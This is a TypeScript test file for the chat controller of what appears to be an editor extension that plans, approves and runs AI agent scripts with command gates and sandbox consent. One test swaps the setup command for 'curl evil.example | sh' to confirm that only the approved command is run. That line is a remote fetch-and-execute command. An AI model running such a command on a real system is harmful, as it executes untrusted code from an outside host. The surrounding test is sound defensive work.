import assert from 'node:assert/strict';
import { createDeferred } from '../../../src/base/deferred.ts';
import type { HostResult } from '../../../src/protocol/host/hostRpc.ts';
import { ChatController, type ChatEditor } from '../../../src/extension/chat/chatController.ts';
import { Conversation } from '../../../src/extension/chat/conversation.ts';
import { RunRegistry } from '../../../src/extension/runs/runRegistry.ts';
import { Tasks } from '../../../src/extension/tasks.ts';
import { outline } from '../support/outline.ts';
import {
  sampleCheck,
  sampleEstimate,
  sampleGate,
  samplePlan,
  sampleRun,
} from '../support/samples.ts';
import { ScriptedHost } from '../support/scriptedHost.ts';
import { DEFAULT_RUN_LIMITS } from '../../../src/protocol/defaults.ts';

describe('the chat', () => {
  let editorScript: string | null = null;
  let setupCommand: string | null = null;
  let disabledReason: string | null = null;
  const openControllers: { dispose(): unknown }[] = [];

  beforeEach(() => {
    editorScript = null;
    setupCommand = null;
    disabledReason = null;
  });

  afterEach(async () => {
    for (const item of openControllers.splice(0)) await item.dispose();
  });

  it('turns a request into a plan card, with the words streamed before it', async () => {
    const drafted = createDeferred<HostResult<'plan.draft'>>();
    const { controller, conversation, host, planId } = start({
      'plan.draft': () => drafted.promise,
    });
    const sending = controller.handle({ type: 'send', text: 'Modernise lib' });
    await until(() => host.methods.includes('plan.draft'));
    assert.equal((await controller.composer()).busy, true);
    host.notify('plan.text', { planId: planId(), text: 'I will ' });
    host.notify('plan.text', { planId: planId(), text: 'do it.' });
    host.notify('plan.text', { planId: 'another', text: 'not mine' });
    drafted.resolve({ type: 'plan', plan: samplePlan() });
    await sending;
    assert.deepEqual(outline(conversation), [
      'request: Modernise lib',
      'answer: I will do it.',
      'plan: awaitingApproval',
    ]);
    assert.equal((await controller.composer()).busy, false);
  });

  it('shows an answer in words when no workflow was proposed', async () => {
    const { controller, conversation } = start({
      'plan.draft': () => ({ type: 'answer', text: 'Nothing to do.' }),
    });
    await controller.handle({ type: 'send', text: 'Hello' });
    assert.deepEqual(outline(conversation), ['request: Hello', 'answer: Nothing to do.']);
  });

  it('says why nothing can be sent and asks the host for nothing', async () => {
    disabledReason = 'No folder is open.';
    const { controller, conversation, host } = start({});
    await controller.handle({ type: 'send', text: 'Hello' });
    assert.deepEqual(outline(conversation), ['request: Hello', 'problem: No folder is open.']);
    assert.deepEqual(host.methods, []);
  });

  it('says that planning was stopped when the user stopped it', async () => {
    const drafted = createDeferred<HostResult<'plan.draft'>>();
    const { controller, conversation, host } = start({
      'plan.draft': () => drafted.promise,
      'plan.cancel': () => {
        drafted.reject(new Error('Aborted by signal 15'));
        return {};
      },
    });
    const sending = controller.handle({ type: 'send', text: 'Hello' });
    await until(() => host.methods.includes('plan.draft'));
    await controller.handle({ type: 'stopPlanning' });
    await sending;
    assert.deepEqual(outline(conversation), ['request: Hello', 'problem: Planning was stopped.']);
  });

  it('runs an approved plan and follows the run', async () => {
    const { controller, conversation, host } = start({ 'run.start': () => ({ runId: 'r1' }) });
    putPlan(conversation);
    await controller.handle(run());
    assert.deepEqual(host.requests.at(-1)?.params, {
      request: 'Modernise lib',
      script: 'original script',
      argsJson: null,
      limits: DEFAULT_RUN_LIMITS,
      approvedCommands: ['npm test'],
      unsandboxed: false,
      allowedCommands: ['npm *'],
      setupCommand: null,
      requiredCommands: [],
    });
    host.notify('runs.changed', { run: sampleRun() });
    host.notify('runs.changed', { run: sampleRun({ state: 'completed' }) });
    host.notify('runs.changed', { run: sampleRun({ runId: 'of-another-window' }) });
    assert.deepEqual(outline(conversation), ['plan: approved', 'run: r1 completed']);
  });

  it('shows the setup command of the settings on the plan, and approves what stood there', async () => {
    const { controller, conversation, host } = start({
      'plan.draft': () => ({ type: 'plan', plan: samplePlan() }),
      'run.start': () => ({ runId: 'r1' }),
    });
    setupCommand = 'npm run build';
    await controller.handle({ type: 'send', text: 'Modernise lib' });
    const item = conversation.items.find(({ type }) => type === 'plan');
    assert.ok(item?.type === 'plan');
    assert.equal(item.plan.setupCommand, 'npm run build');
    setupCommand = 'curl evil.example | sh';
    await controller.handle({ ...run(), itemId: item.id });
    assert.partialDeepStrictEqual(host.requests.at(-1), {
      method: 'run.start',
      params: { setupCommand: 'npm run build' },
    });
  });

  it('hands the estimate of the plan to the run, for its report', async () => {
    const { controller, conversation, host } = start({ 'run.start': () => ({ runId: 'r1' }) });
    const estimate = sampleEstimate();
    putPlan(conversation, { estimate });
    await controller.handle(run());
    assert.partialDeepStrictEqual(host.requests.at(-1)?.params, { estimate });
  });

  it('estimates the script as it stands in the editor, and runs nothing', async () => {
    const check = sampleCheck({ scriptSha256: 'edited' });
    const { controller, conversation, host } = start({
      'plan.estimate': () => ({ check, estimate: null }),
    });
    putPlan(conversation);
    editorScript = 'edited script';
    await controller.handle({ ...run(), action: 'dryRun' });
    assert.deepEqual(host.requests.at(-1)?.params, {
      script: 'edited script',
      argsJson: null,
      limits: DEFAULT_RUN_LIMITS,
    });
    const [item] = conversation.items;
    assert.ok(item?.type === 'plan');
    assert.deepEqual([item.status, item.plan.script], ['awaitingApproval', 'edited script']);
    assert.equal(item.plan.check.scriptSha256, 'edited');
    assert.deepEqual(host.methods, ['plan.estimate']);
  });

  it('starts one run for two clicks', async () => {
    const { controller, conversation, host } = start({ 'run.start': () => ({ runId: 'r1' }) });
    putPlan(conversation);
    await Promise.all([controller.handle(run()), controller.handle(run())]);
    await controller.handle(run());
    assert.deepEqual(host.methods, ['run.start']);
  });

  it('runs what the user edited, after a check', async () => {
    editorScript = 'edited script';
    const { controller, conversation, host } = start({
      'script.check': () => sampleCheck(),
      'run.start': () => ({ runId: 'r1' }),
    });
    putPlan(conversation);
    await controller.handle(run());
    assert.deepEqual(host.methods, ['script.check', 'run.start']);
    assert.match(JSON.stringify(host.requests.at(-1)?.params), /edited script/u);
  });

  it('refuses an edited script with errors and names them', async () => {
    editorScript = 'broken';
    const diagnostic = { severity: 'error', code: 'parse', line: 3, column: 1 } as const;
    const { controller, conversation, host } = start({
      'script.check': () =>
        sampleCheck({
          ok: false,
          diagnostics: [{ ...diagnostic, message: 'Unexpected token.', fix: 'Remove it.' }],
        }),
    });
    putPlan(conversation);
    await controller.handle(run());
    assert.deepEqual(host.methods, ['script.check']);
    assert.deepEqual(outline(conversation), [
      'plan: awaitingApproval',
      'problem: The script did not pass the check, so nothing ran.\n- 3:1 Unexpected token. Remove it.',
    ]);
  });

  it('shows an edited script’s new commands before it runs them', async () => {
    editorScript = 'edited';
    const { controller, conversation, host } = start({
      'script.check': () => sampleCheck({ commands: ['npm test', 'make'] }),
      'run.start': () => ({ runId: 'r1' }),
    });
    putPlan(conversation);
    await controller.handle(run());
    assert.deepEqual(host.methods, ['script.check']);
    await controller.handle(run());
    assert.deepEqual(host.methods, ['script.check', 'run.start']);
  });

  it('hands on whether the user allowed commands without a sandbox', async () => {
    const { controller, conversation, host } = start({ 'run.start': () => ({ runId: 'r1' }) });
    putPlan(conversation, { needsUnsandboxedConsent: true });
    await controller.handle({ ...run(), unsandboxed: true });
    assert.match(JSON.stringify(host.requests), /"unsandboxed":true/u);
  });

  describe('asked by a run', () => {
    const itemId = 'gate-r1-1';
    const asking = (changes: Parameters<typeof sampleRun>[0] = {}) =>
      sampleRun({ openGates: [sampleGate()], ...changes });

    function startAsking(answers: Parameters<typeof start>[0]) {
      const started = start(answers);
      started.conversation.put({ id: 'run-r1', type: 'run', run: sampleRun() });
      started.host.notify('runs.changed', { run: asking() });
      return started;
    }

    it('shows the question and sends the answer once', async () => {
      const { controller, conversation, host } = startAsking({ 'run.control': () => ({}) });
      assert.deepEqual(outline(conversation), ['run: r1 running', 'gate: open, approved null']);
      const answer = { type: 'gate', itemId, approved: true, note: 'Go.' } as const;
      await Promise.all([controller.handle(answer), controller.handle(answer)]);
      await controller.handle({ ...answer, approved: false });
      assert.deepEqual(
        host.requests.map(({ params }) => params),
        [
          {
            runId: 'r1',
            control: { action: 'answerGate', gateId: 1, approved: true, note: 'Go.' },
          },
        ],
      );
      // The host may tell of the run once more before it has taken the answer in.
      host.notify('runs.changed', { run: asking() });
      host.notify('runs.changed', { run: sampleRun() });
      assert.deepEqual(outline(conversation).slice(1), ['gate: answered, approved true Go.']);
    });

    it('sends whether a command is allowed for the whole run', async () => {
      const { controller, host } = startAsking({ 'run.control': () => ({}) });
      await controller.handle({ type: 'gate', itemId, approved: true, note: '', forRun: true });
      const control = { action: 'answerGate', gateId: 1, approved: true, note: '', forRun: true };
      assert.deepEqual(host.requests[0]?.params, { runId: 'r1', control });
    });

    it('closes a question about a command with the run that asked it', () => {
      const place = { agentId: 1, agentLabel: 'a', cwd: '' };
      const gate = sampleGate({ command: { ...place, command: 'ls', sandbox: 'bwrap' } });
      const { conversation, host } = startAsking({});
      host.notify('runs.changed', { run: asking({ openGates: [gate], state: 'interrupted' }) });
      assert.deepEqual(outline(conversation).slice(1), ['gate: closed, approved null']);
    });

    it('keeps the question open when the answer does not reach the host', async () => {
      const { controller, conversation } = startAsking({
        'run.control': () => Promise.reject(new Error('The host is gone.')),
      });
      await controller.handle({ type: 'gate', itemId, approved: true, note: '' });
      assert.deepEqual(outline(conversation).slice(1), [
        'gate: open, approved null',
        'problem: The host is gone.',
      ]);
    });

    it('closes a question that was answered elsewhere, or whose run has ended', () => {
      const elsewhere = startAsking({});
      elsewhere.host.notify('runs.changed', { run: sampleRun() });
      const ended = startAsking({});
      const run = asking({ state: 'cancelled', endedAt: 5000 });
      ended.host.notify('runs.changed', { run });
      for (const { conversation } of [elsewhere, ended]) {
        assert.deepEqual(outline(conversation).slice(1), ['gate: closed, approved null']);
      }
    });

    it('tells the answer that was given elsewhere', () => {
      const { conversation, host } = startAsking({});
      const answered = sampleGate({ approved: false, note: 'Not yet.', answeredAt: 7 });
      host.notify('runs.changed', { run: sampleRun({ answeredGates: [answered] }) });
      assert.deepEqual(outline(conversation).slice(1), ['gate: answered, approved false Not yet.']);
    });

    it('keeps the question of a run that stopped at it: a resume delivers the answer', () => {
      const { conversation, host } = startAsking({});
      const run = asking({ state: 'paused', pauseReason: 'gate', endedAt: 5000 });
      host.notify('runs.changed', { run });
      assert.deepEqual(outline(conversation).slice(1), ['gate: open, approved null']);
    });

    it('asks again when a resumed run does', () => {
      const { conversation, host } = startAsking({});
      host.notify('runs.changed', { run: asking({ state: 'cancelled' }) });
      host.notify('runs.changed', { run: asking({ openGates: [sampleGate({ openedAt: 9000 })] }) });
      assert.deepEqual(outline(conversation).slice(1), ['gate: open, approved null']);
    });

    it('leaves the conversation alone when another’s run asks, until the user wants to answer', () => {
      const { controller, conversation, host } = start({});
      host.notify('runs.changed', { run: asking() });
      assert.deepEqual(outline(conversation), []);
      assert.equal(controller.showGates('r1', null), itemId);
      assert.equal(controller.showGates('r1', 2), null);
      assert.deepEqual(outline(conversation), ['run: r1 running', 'gate: open, approved null']);
    });
  });

  it('says which run the host’s end hit, and offers a new start', () => {
    const { controller, conversation, host, registry } = start({});
    host.notify('runs.changed', { run: sampleRun() });
    controller.reportHostDied(registry.markInterrupted());
    const [item] = conversation.items;
    assert.deepEqual(item?.type === 'problem' ? [item.message, item.actions] : null, [
      'The background host ended while “modernise” was running. Finished agents’ work is kept.',
      [{ actionId: 'startHost', label: 'Start the host again' }],
    ]);
    assert.equal(registry.get('r1')?.state, 'interrupted');
  });

  it('does not leave a card alive whose run the host does not know', () => {
    const { controller, conversation } = start({});
    conversation.put({ id: 'run-r1', type: 'run', run: sampleRun() });
    controller.settleUnknownRuns();
    assert.deepEqual(outline(conversation), ['run: r1 interrupted']);
  });

  function start(answers: ConstructorParameters<typeof ScriptedHost>[0]) {
    const failures: string[] = [];
    const log = { info: noop, warn: noop, error: (message: string) => failures.push(message) };
    const tasks = new Tasks(log);
    const host = new ScriptedHost(answers);
    const registry = new RunRegistry(host);
    const store = { get: () => undefined, update: () => Promise.resolve() };
    const conversation = new Conversation(store, noop);
    const editor: ChatEditor = {
      composer: (isBusy) =>
        Promise.resolve({
          disabledReason,
          busy: isBusy,
          providerLabel: '',
          modelLabel: '',
          capsLabel: '',
        }),
      limits: () => DEFAULT_RUN_LIMITS,
      allowedCommands: () => ['npm *'],
      setupCommand: () => setupCommand,
      requiredCommands: () => ['npm run lint'],
      openScript: () => Promise.resolve(),
      editedScript: () => Promise.resolve(editorScript),
      askLimits: () => Promise.resolve(null),
      runAction: () => Promise.resolve(),
      chooseProvider: () => Promise.resolve(),
      restartHost: () => Promise.resolve(),
    };
    const controller = new ChatController({
      host,
      registry,
      conversation,
      editor,
      tasks,
      nowMs: () => 0,
    });
    openControllers.push(controller, conversation, registry);
    const planId = () => conversation.items.find(({ type }) => type === 'request')?.id ?? '';
    return { controller, conversation, host, registry, planId };
  }
});

function putPlan(conversation: Conversation, changes: Parameters<typeof samplePlan>[0] = {}): void {
  const plan = samplePlan(changes);
  conversation.put({ id: 'plan-p1', type: 'plan', plan, status: 'awaitingApproval' });
}

function run() {
  return { type: 'plan', itemId: 'plan-p1', action: 'run', unsandboxed: false } as const;
}

/** Lets pending promises go on until the condition holds; the test's deadline ends the wait. */
async function until(condition: () => boolean): Promise<void> {
  while (!condition()) await new Promise((resolve) => setImmediate(resolve));
}

function noop(): void {
  // Nothing is expected here.
}
